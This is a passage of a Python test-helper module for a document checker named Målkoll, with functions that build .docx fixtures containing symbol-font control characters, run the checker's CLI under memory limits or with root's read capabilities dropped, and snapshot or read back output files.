            + wide.ljust(108, b"\x00"))[:162].ljust(162, b"\x00")


def with_symbol(data: bytes, marker: str, char: str) -> bytes:
    """A built .docx with `marker` in its text replaced by a w:sym glyph of code point `char` (hex).

    This is how a control character (which XML text cannot hold) still reaches
    the reader: Word stores symbol-font glyphs as code points in an attribute.
    """
    source = zipfile.ZipFile(io.BytesIO(data))
    parts = []
    for info in source.infolist():
        blob = source.read(info)
        if info.filename == "word/document.xml":
            glyph = f'</w:t><w:sym w:font="Symbol" w:char="{char}"/><w:t xml:space="preserve">'
            blob = blob.replace(marker.encode(), glyph.encode())
        parts.append((info.filename, blob))
    return zip_parts(parts)


# --- running Målkoll and looking at what it left --------------------------------------------------

REPO = Path(__file__).resolve().parents[1]


def run_malkoll(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None, timeout: float = 120,
                memory_limit: int | None = None, prefix: Sequence[str] = ()) -> subprocess.CompletedProcess[str]:
    """`malkoll …` in a fresh process (as a coordinator runs it), optionally with an address-space limit
    and a command in front (e.g. setpriv, to run without root's power to read anything)."""
    environment = {**os.environ, "PYTHONPATH": str(REPO), "PYTHONUNBUFFERED": "1", "MALKOLL_NO_PROGRESS": "1",
                   "NO_COLOR": "1", **(env or {})}
    environment.pop("MALKOLL_DEBUG", None)

    def limit_memory() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (memory_limit, memory_limit))

    return subprocess.run(
        [*prefix, sys.executable, "-m", "checker", *args], capture_output=True, text=True, encoding="utf-8", errors="replace",
        cwd=cwd or REPO, env=environment, timeout=timeout, preexec_fn=limit_memory if memory_limit else None,
        check=False,
    )


def snapshot(root: Path, *, skip: Sequence[Path] = ()) -> dict[str, str]:
    """Every entry under `root` (links not followed) → its SHA-256, link target or "<mapp>"."""
    skipped = [s.resolve() for s in skip]
    found: dict[str, str] = {}
    for folder, dirnames, filenames in os.walk(root):
        here = Path(folder)
        dirnames[:] = [d for d in dirnames if (here / d).resolve() not in skipped or (here / d).is_symlink()]
        for name in [*dirnames, *filenames]:
            path = here / name
            key = str(path.relative_to(root))
            mode = path.lstat().st_mode
            if path.is_symlink():
                found[key] = "-> " + os.readlink(path)
            elif path.is_dir():
                found[key] = "<mapp>"
            elif not stat.S_ISREG(mode):
                found[key] = f"<special {stat.S_IFMT(mode):o}>"  # reading a pipe would wait for a writer
            else:
                found[key] = file_hash(path)
    return found


def run_in_process(*args: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """`malkoll ARGS` in this process: (exit code, stdout, stderr); the run's limits are reset after."""
    import contextlib

    import pytest

    from checker import limits
    from checker.cli import main

    out, err = io.StringIO(), io.StringIO()
    try:
        with contextlib.ExitStack() as stack:
            stack.enter_context(contextlib.redirect_stdout(out))
            stack.enter_context(contextlib.redirect_stderr(err))
            patch = stack.enter_context(pytest.MonkeyPatch.context())
            for key, value in (env or {}).items():
                patch.setenv(key, value)
            code = main(list(args))
    finally:
        limits.configure(None)
    return code, out.getvalue(), err.getvalue()


def run_malkoll_together(*commands: tuple[tuple[str, ...], dict]) -> list[subprocess.CompletedProcess[str]]:
    """Several `malkoll` runs at once (each (args, keyword arguments) as for run_malkoll), results in order."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=len(commands)) as pool:
        futures = [pool.submit(run_malkoll, *args, **kwargs) for args, kwargs in commands]
        return [future.result() for future in futures]


# Root reads files whatever their mode; without these two capabilities it obeys permissions like anyone.
WITHOUT_ROOT_READ = ("setpriv", "--bounding-set", "-dac_override,-dac_read_search",
                     "--inh-caps", "-dac_override,-dac_read_search")


def permissions_prefix(probe: Path) -> tuple[str, ...] | None:
    """What to put in front of a command so that mode 000 on `probe` stops it reading; None if nothing can."""
    os.chmod(probe, 0)
    try:
        try:
            with probe.open("rb"):
                pass
        except PermissionError:
            return ()
        if not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("setpriv"):
            return None
        test = subprocess.run([*WITHOUT_ROOT_READ, sys.executable, "-c", f"open({str(probe)!r}, 'rb')"],
                              capture_output=True, check=False)
        return WITHOUT_ROOT_READ if test.returncode != 0 and b"PermissionError" in test.stderr else None
    finally:
        os.chmod(probe, 0o644)


def file_hash(path: Path) -> str:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError as error:
        return f"<oläsbar: {error.errno}>"


def output_texts(folder: Path) -> dict[str, str]:
    """Every file under `folder` as text; zip files (.docx, .xlsx) as the text of all their XML parts."""
    texts: dict[str, str] = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if data.startswith(b"PK"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                data = b"\n".join(archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels")))
        texts[str(path.relative_to(folder))] = data.decode("utf-8", "replace")
    return texts
